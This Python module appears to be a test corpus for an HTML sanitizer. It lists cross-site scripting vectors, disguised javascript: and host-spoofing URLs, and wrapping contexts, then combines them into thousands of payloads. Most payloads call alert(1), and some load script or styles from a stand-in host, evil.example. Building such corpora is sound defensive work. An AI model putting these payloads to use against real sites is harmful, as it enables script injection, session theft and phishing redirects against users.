"""HTML attacks: known vectors, and disguises that may slip through."""

from __future__ import annotations

from itertools import product
from typing import Final

_CALL: Final = "alert(1)"

ELEMENTS: Final = [
    f"<script>{_CALL}</script>",
    "<script src=https://evil.example/x.js></script>",
    f"<img src=x onerror={_CALL}>",
    f'<img src="x` `<script>{_CALL}</script>"` `>',
    f"<svg onload={_CALL}>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<svg><a xlink:href='javascript:{_CALL}'><text y=20>x</text></a></svg>",
    f"<svg><animate xlink:href=#x attributeName=href values=javascript:{_CALL} /><a id=x>x</a>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zz4='/></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_CALL}></style></mglyph>",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={_CALL}></annotation-xml></math>",
    f"<math href='javascript:{_CALL}'>x</math>",
    f"<body onload={_CALL}>",
    f"<details open ontoggle={_CALL}>x</details>",
    f"<video><source onerror={_CALL}></video>",
    f"<audio src=x onerror={_CALL}>",
    f"<input autofocus onfocus={_CALL}>",
    f"<form action='javascript:{_CALL}'><button>x</button></form>",
    f"<button formaction='javascript:{_CALL}'>x</button>",
    f"<object data='javascript:{_CALL}'></object>",
    f"<embed src='javascript:{_CALL}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_CALL}'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    f"<p style='background:url(javascript:{_CALL})'>x</p>",
    f"<p id=x class=y onclick={_CALL} tabindex=1 onfocus={_CALL} autofocus>x</p>",
    f"<b onbeforecopy={_CALL} contenteditable>x</b>",
    f"<marquee onstart={_CALL}>x</marquee>",
    f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'></noscript>",
    f"<template><img src=x onerror={_CALL}></template>",
    f"<textarea><p title='</textarea><img src=x onerror={_CALL}>'></textarea>",
    f"<title><p title='</title><img src=x onerror={_CALL}>'></title>",
    f"<xmp><p title='</xmp><img src=x onerror={_CALL}>'></xmp>",
    f"<noembed><p title='</noembed><img src=x onerror={_CALL}>'></noembed>",
    f"<plaintext><img src=x onerror={_CALL}>",
    f"<!--><img src=x onerror={_CALL}>-->",
    f"<!-- --!><img src=x onerror={_CALL}> -->",
    f"<![CDATA[<img src=x onerror={_CALL}>]]>",
    f"<?xml <img src=x onerror={_CALL}>?>",
    f"<svg></p><style><a id='</style><img src=1 onerror={_CALL}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    f"<select><template><img src=x onerror={_CALL}></template></select>",
    f"<table><td background='javascript:{_CALL}'>x</td></table>",
    f"<isindex type=image src=1 onerror={_CALL}>",
    f"<frameset onload={_CALL}><frame src='javascript:{_CALL}'></frameset>",
    f"<keygen autofocus onfocus={_CALL}>",
    f"<a href='https://a.example/' onmouseover={_CALL} ping='https://evil.example/'>x</a>",
    f"<a target=_blank download href=https://a.example/ style='x:expression({_CALL})'>x</a>",
    f'<p title="{"&quot;"}><img src=x onerror={_CALL}>">x</p>',
]

ADDRESSES: Final = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\x03script:alert(1)",
    "java&#3;script:alert(1)",
    "java&Tab;script:alert(1)",
    "&#1;javascript:alert(1)",
    "&#106;avascript&colon;alert(1)",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)",
    "\u00a0javascript:alert(1)",
    "\u3000javascript:alert(1)",
    "javascript&#8203;:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "blob:https://a.example/1",
    "file:///etc/passwd",
    "ftp://a.example/",
    "view-source:https://a.example/",
    "//evil.example/",
    "\\\\evil.example\\x",
    "/\\evil.example/",
    "https:evil.example",
    "https:/evil.example",
    "https:\\\\evil.example",
    "https://bank.example@evil.example/",
    "https://bank.example:443@evil.example/",
    "https://bank.example\\@evil.example/",
    "https://bank.example\n@evil.example/",
    "https://bank.example&#10;.evil.example/",
    "https://%65vil.example/",
    "https://bank。example/",
    "https://\uff42ank.example/",
    "https://bank.example\u202e/moc",
    "../admin/",
    "#top",
    "?next=x",
    "",
]

SLIPS: Final = [
    "{}",
    "<p>{}</p>",
    "<b>{}",
    "</p></div>{}",
    '"><{}',
    "<<{}",
    "<table>{}</table>",
    "<svg>{}",
    "<math><mi>{}",
    "<select><option>{}",
    "<a href='{}'>x</a>",
    "<iframe>{}</iframe>",
    "<iframe srcdoc='{}'></iframe>",
    "<noscript>{}</noscript>",
    "<!--{}-->",
    "\x00{}\x00",
]


def payloads() -> list[str]:
    """Return every vector in every disguise, in a fixed order: a few thousand."""
    attributes = ("<a href='{}'>x</a>", '<iframe src="{}"></iframe>', "<blockquote cite='{}'>x")
    vectors = [*ELEMENTS, *(one.format(url) for one, url in product(attributes, ADDRESSES))]
    vectors += [vector.replace("<", "<\x0c/").replace(" ", "/") for vector in ELEMENTS]
    vectors += [vector.swapcase().replace("=", "\n=\x01") for vector in ELEMENTS]
    vectors += [vector.replace("<", "&lt;").replace(">", "&gt;") for vector in ELEMENTS]
    vectors += [vector.replace(">", "") for vector in ELEMENTS]
    return [slip.format(vector) for slip, vector in product(SLIPS, vectors)]
